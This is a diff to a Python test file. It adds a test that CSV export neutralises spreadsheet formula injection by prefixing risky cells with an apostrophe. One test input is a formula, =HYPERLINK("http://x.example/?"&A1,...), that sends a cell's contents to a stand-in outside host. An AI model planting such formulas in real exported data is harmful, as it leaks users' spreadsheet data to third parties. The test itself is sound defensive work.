@@ -11,6 +11,7 @@ fail. A last test keeps the code from growing new ways to compile text.
 
 from __future__ import annotations
 
+import csv
 import html
 import io
 import re
@@ -22,9 +23,11 @@ from pathlib import Path
 from urllib.parse import urlsplit
 
 import docx
+import pandas as pd
 import pytest
 from sqlalchemy import Enum, String, select
 
+from boundaries.export_io import OutLayer, csv_text
 from cases.db import unit_of_work
 from cases.models import Base, DisputeZone
 from cases.shares import create_share
@@ -285,6 +288,15 @@ def test_the_probes_are_read_back_through_share_links(shared_pages, kind):
     texts = [text for url, (status, text) in shared_pages.items() if re.search(kind, url)]
     assert texts, f"no shared page of kind {kind} was reached"
     assert any(MARK in text for text in texts), f"no probe found in {kind}"
+
+
+@pytest.mark.parametrize("formula", ['=HYPERLINK("http://x.example/?"&A1,"Ver")', "+1+1",
+                                     "-2+3", "@SUMA(A1)", "\t=1"])
+def test_csv_text_never_starts_a_formula(formula):
+    """Excel runs a cell starting with =, +, -, @ as a formula: text ones get a ' first."""
+    layer = OutLayer("reuniones", pd.DataFrame({"titulo": [formula], "numero": [-3]}),
+                     {"titulo": "str", "numero": "int"})
+    assert list(csv.reader(io.StringIO(csv_text(layer))))[1] == ["'" + formula, "-3"]
 
 
 ROOT = Path(__file__).resolve().parents[2]
